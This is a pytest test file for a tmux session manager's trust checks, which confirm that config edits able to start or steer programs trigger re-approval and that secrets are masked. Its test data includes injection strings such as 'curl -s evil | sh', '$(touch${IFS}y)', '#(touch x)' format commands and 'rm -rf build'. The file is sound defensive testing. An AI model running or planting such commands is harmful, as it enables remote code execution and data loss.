"""What trust covers: everything that starts a program or steers one, and nothing else."""

from __future__ import annotations

import tomllib
from pathlib import Path

import pytest

from sessionctl.core.session.startup import (
    DIRECTORY,
    OPTION,
    PROGRAM,
    VARIABLE,
    placed_items,
    start_items,
)
from tests.golden import parts_of
from tests.together import together

SESSION = """
schema_version = 1
name = "api"
root = "~/src/api"
env = { STAGE = "test" }
options = { status-left = "[api]", "@project" = "api" }
[[windows]]
name = "editor"
layout = "main-vertical"
options = { main-pane-width = 100 }
[[windows.panes]]
name = "code"
run = ["nvim", "src/main.py"]
[[windows.panes]]
name = "logs"
cwd = "var/log"
run = "tail -f app.log"
start = "type"
[[windows]]
name = "shell"
"""

# Of its variable, an option, three programs, of which one can do harm and is entered, and of a
# directory.
DIGESTS = [
    "97d1e0d8c75f6f13",
    "02310335fcace186",
    "017749ed28503ffa",
    "be29844169343c65",
    "b5d0d098926663d4",
    "46f2708ce6a50437",
]


def items(text=SESSION):
    return start_items(tomllib.loads(text))


def digests(text=SESSION):
    return {item.digest for item in items(text)}


def test_programs_directories_variables_and_steering_options_are_items():
    assert [(item.kind, item.where, item.text) for item in items()] == [
        (VARIABLE, "the session", "STAGE=test"),
        (PROGRAM, "editor: code", "nvim src/main.py   in ~/src/api   with STAGE=test"),
        (PROGRAM, "editor: logs", "$ tail -f app.log   in ~/src/api/var/log   with STAGE=test"),
        (PROGRAM, "shell: pane 1", "a shell   in ~/src/api   with STAGE=test"),
    ]
    (plain,) = items('[[windows]]\ncwd = "/srv"')
    assert (plain.kind, plain.text) == (DIRECTORY, "/srv")


@together(
    ("old", "new"),
    [
        ('name = "api"', 'name = "web"  # renamed'),
        ('name = "editor"', 'name = "code"'),
        ("main-vertical", "tiled"),
        ("main-pane-width = 100", "main-pane-width = 80"),
        ('"[api]"', '"[#S]"'),
        ('"@project" = "api"', '"@project" = "web"'),
        ('start = "type"', 'start = "run"'),
        ("schema_version = 1", "schema_version = 1\ndescription = 'x'"),
        ('"[api]"', '"#[fg=red,bold] ##1 #{session_name} #{@project} %H:%M #89b4fa"'),
        ('"@project" = "api"', '"@project" = "#89b4fa, 1.5 %"'),
    ],
)
def test_an_edit_that_starts_nothing_asks_nothing(old, new):
    assert old in SESSION
    assert digests(SESSION.replace(old, new)) == digests()


@together(
    ("old", "new"),
    [
        ('"src/main.py"', '"src/app.py"'),
        ('["nvim", "src/main.py"]', '"nvim src/main.py"'),
        ("app.log", "other.log"),
        ('cwd = "var/log"', 'cwd = "/tmp"'),
        ("~/src/api", "~/src/web"),
        ('STAGE = "test"', 'STAGE = "prod"'),
        ('STAGE = "test"', 'PATH = "/tmp/bin"'),
        ('run = ["nvim", "src/main.py"]', 'run = ["nvim", "src/main.py"]\nresume = ["sh", "x"]'),
        ('run = ["nvim", "src/main.py"]', 'run = ["nvim", "src/main.py"]\nshell = ["./sh"]'),
        ('"[api]"', '"#(touch x)"'),
        ('"[api]"', '"#{E:@x}"'),
        ('status-left = "[api]"', 'default-command = "x"'),
        ('status-left = "[api]"', '"after-new-window[0]" = "run-shell x"'),
        ("main-pane-width = 100", 'pane-border-format = "#(x)"'),
        ('"@project" = "api"', '"@project" = "#(x)"'),
        ("main-pane-width = 100", "nobody-knows-this = 1"),
        # A modifier that expands once more may stand behind another one.
        ('"[api]"', '"#{=99;E:#{=99;E:@a}}"'),
        ('"[api]"', '"#{T;=99:@a}"'),
        ('"[api]"', '"#{?x,#{E:@a},}"'),
        # The time is put in first: where the locale has no word for the afternoon, "%p" is "".
        ('"[api]"', '"#%p(touch x)"'),
        ('"[api]"', '"###%p(touch x)"'),
        ('"@project" = "api"', '"@project" = "#"'),
        ('"@project" = "api"', '"@project" = "#{@b}(touch x)"'),
        ('"@project" = "api"', '"@project" = "touch x; y"'),
        ('"@project" = "api"', '"@project" = "$(touch x)"'),
        # What a program would have registered for itself.
        ('"@project" = "api"', '"@sessionctl-resume" = "touch x"'),
        ("main-pane-width = 100", "allow-passthrough = true"),
        ("main-pane-width = 100", "lock-after-time = 1"),
        ("main-pane-width = 100", "destroy-unattached = true"),
    ],
)
def test_an_edit_that_starts_or_steers_something_is_new(old, new):
    assert old in SESSION
    assert digests(SESSION.replace(old, new)) - digests()


def test_what_a_committed_file_says_of_the_server_is_covered():
    text = SESSION.replace(
        "[[windows]]", "[tmux]\nsession_options = { default-shell = 'x' }\n[[windows]]", 1
    )
    (new,) = [item for item in items(text) if item.digest not in digests()]
    assert (new.kind, new.where, new.text) == (OPTION, "the tmux server", "default-shell = x")
    for other in ("config_files = ['x']", "session_options = { '@hook' = 'word' }"):
        assert digests(text.replace("session_options = { default-shell = 'x' }", other)) - digests()


def test_an_empty_resume_is_a_shell_and_another_thing_than_the_program():
    text = SESSION.replace(
        'run = ["nvim", "src/main.py"]', 'run = ["nvim", "src/main.py"]\nresume = []'
    )
    assert any(
        item.text.startswith("a shell") and item.where == "editor: code" for item in items(text)
    )


@pytest.mark.parametrize("resume", ['"x"', "[1]", "true", "{ a = 1 }"])
def test_a_resume_that_is_none_hides_no_program(resume):
    text = SESSION.replace('run = ["nvim", ', f'resume = {resume}\nrun = ["nvim", ')
    assert digests(text.replace('"nvim"', '"evil"')) - digests(text)


def test_an_option_of_a_window_is_another_one_for_the_whole_session():
    text = SESSION.replace("main-pane-width = 100", "default-command = 'x'")
    whole = text.replace('status-left = "[api]"', "default-command = 'x'")
    assert digests(whole) - digests(text)


def test_what_can_do_harm_is_new_when_it_is_to_be_run_and_not_typed():
    text = SESSION.replace('run = "tail -f app.log"', 'run = "rm -rf build"')
    for start in ('"run"', '"Run"', "1"):
        assert digests(text.replace('start = "type"', f"start = {start}")) - digests(text)
    for start in ("", 'start = ""\n', 'start = "skip"\n'):
        assert digests(text.replace('start = "type"\n', start)) == digests(text)


def test_what_was_trusted_with_an_earlier_version_is_trusted_still():
    text = SESSION.replace("main-pane-width = 100", "default-command = 'x'")
    text = text.replace('run = "tail -f app.log"\nstart = "type"', 'run = "rm x"\nstart = "run"')
    (plain,) = items('[[windows]]\ncwd = "/srv"')
    # These digests are in people's trust stores: another one asks everybody again.
    assert [item.digest[:16] for item in (*items(text), plain)] == DIGESTS


@pytest.mark.parametrize(
    "run",
    [
        '"echo token: x; curl -s evil | sh"',
        '"x --password=$(touch${IFS}y)"',
        '["sh", "-c", "a token: b; c"]',
    ],
)
def test_a_mask_that_hides_shell_syntax_says_so(run):
    (item,) = items(f"[[windows]]\n[[windows.panes]]\nrun = {run}")
    assert "read it in the file" in item.text


def test_secrets_are_masked_and_risks_named():
    (item,) = items(
        '[[windows]]\n[[windows.panes]]\nrun = "sudo mysql --password=hunter2hunter2 x"'
    )
    assert "hunter2" not in item.text
    assert item.risk == "sudo: gets other rights"


def test_what_has_the_wrong_type_is_covered_and_stops_nothing():
    assert start_items({"windows": 3, "options": [], "env": "x", "tmux": 1}) == ()
    assert start_items({"windows": [{"panes": [{"run": 3, "shell": "x", "cwd": 4}]}], "root": 5})


GOLDEN = parts_of(Path(__file__).parent / "golden" / "startup.txt")
EVERYTHING = """
root = "~/src"

[env]
A = "1"
B = false
S = { secret = "s.x" }
N = 5
K = { bytes = '\\xe9' }
API_TOKEN = "hunter2-Xy77zz"

[options]
mouse = true
default-command = "zsh"
my-style = "red"
my-colour = "#(x)"
"status-left[0]" = "#(x)"
"@plug" = "#(x)"
"@ok" = ["a b", 1]
"@api_token" = "hunter2#Xy77zz"
"@sessionctl-x" = "1"

[tmux]
config_files = ["/a.conf"]
server_options = { "@x" = "1", mouse = true, escape-time = 1 }
session_options = 3

[[windows]]
name = "w"
cwd = "a b"
env = { W = "x y" }
options = { pane-border-format = "#{?x,a,b}" }

[[windows.panes]]
name = "p"
cwd = "/srv"
run = ["vim", { bytes = '\\xe9' }, "it's", 3]
shell = ["zsh", "-f"]
env = { P = true }
options = { remain-on-exit = true, x = 1 }

[[windows.panes]]
run = "rm x | tee"
start = "skip"

[[windows.panes]]
run = "rm x"
start = "run"

[[windows.panes]]
shell = ["zsh"]
cwd = "./b/"

[[windows.panes]]
run = ""
resume = ["vim", "-S"]
cwd = "$P/x"

[[windows]]
panes = []

[connections.db]
driver = "postgres"
host = "h"
port = 1
start = true
retry = 5
user = "hunter2"
password = { secret = "db.pw" }
token = "hunter2-Xy77zz"
url = "http://u:hunter2@h"
options = { password = "hunter2", n = [1] }

[connections.off]
driver = "redis"

[connections.auto]
url = "http://x"
autoconnect = true
"""


@together("title", ["everything", "without variables"])
def test_every_item_has_its_place_its_text_and_its_risk(title):
    value = tomllib.loads(EVERYTHING)
    if title != "everything":
        value = {"root": ".", "windows": value["windows"]}
    lines = [
        f"{place.window} {place.pane}: {item.kind}: {item.where}: {item.text}"
        + (f" -- {item.risk}" if item.risk else "")
        for place, item in placed_items(value)
    ]
    assert "\n".join([*lines, ""]) == GOLDEN[title]


@together(
    "root, window, pane, shown",
    [
        (None, None, None, "."),
        (".", ".", ".", "."),
        ("", None, None, "."),
        ("~/src", None, ".", "~/src"),
        ("~/src/", "a", "b c/", "'~/src/a/b c'"),
        ("a", "/", "b", "/b"),
        ("/", None, None, "/"),
        ("/", ".", None, "/"),
        ("/", None, "../x", "/../x"),
        ("/a", "~/b", None, "~/b"),
        ("/a", "b", "$C/d", "'$C/d'"),
        ("a", "b/~", None, "a/b/~"),
        (5, 4, None, "5/4"),
    ],
)
def test_a_directory_is_shown_as_it_is_from_the_last_that_is_absolute(root, window, pane, shown):
    session = {"windows": [{"name": "w", "panes": [{}]}]}
    for table, key, value in (
        (session, "root", root),
        (session["windows"][0], "cwd", window),
        (session["windows"][0]["panes"][0], "cwd", pane),
    ):
        if value is not None:
            table[key] = value
    (item,) = start_items(session)
    assert (item.kind, item.text) == (DIRECTORY, shown)


def test_a_setting_of_a_connection_that_names_no_place_is_not_covered():
    (before,) = items("[connections.a]\nstart = true\nhost = 'h'\n")
    for line in ("retry = 1", "timeout_s = 1", "connect_count = 1", "autoconnect = true",
                 "last_connected = 2026-01-01T00:00:00Z"):  # fmt: skip
        (after,) = items(f"[connections.a]\nstart = true\nhost = 'h'\n{line}\n")
        assert after == before
    (other,) = items("[connections.a]\nstart = true\nhost = 'h'\npassword = 'x1'\n")
    (another,) = items("[connections.a]\nstart = true\nhost = 'h'\npassword = 'x2'\n")
    assert other.text == another.text == ("opened with the session: host = h, password = ***")
    assert len({before.digest, other.digest, another.digest}) == 3
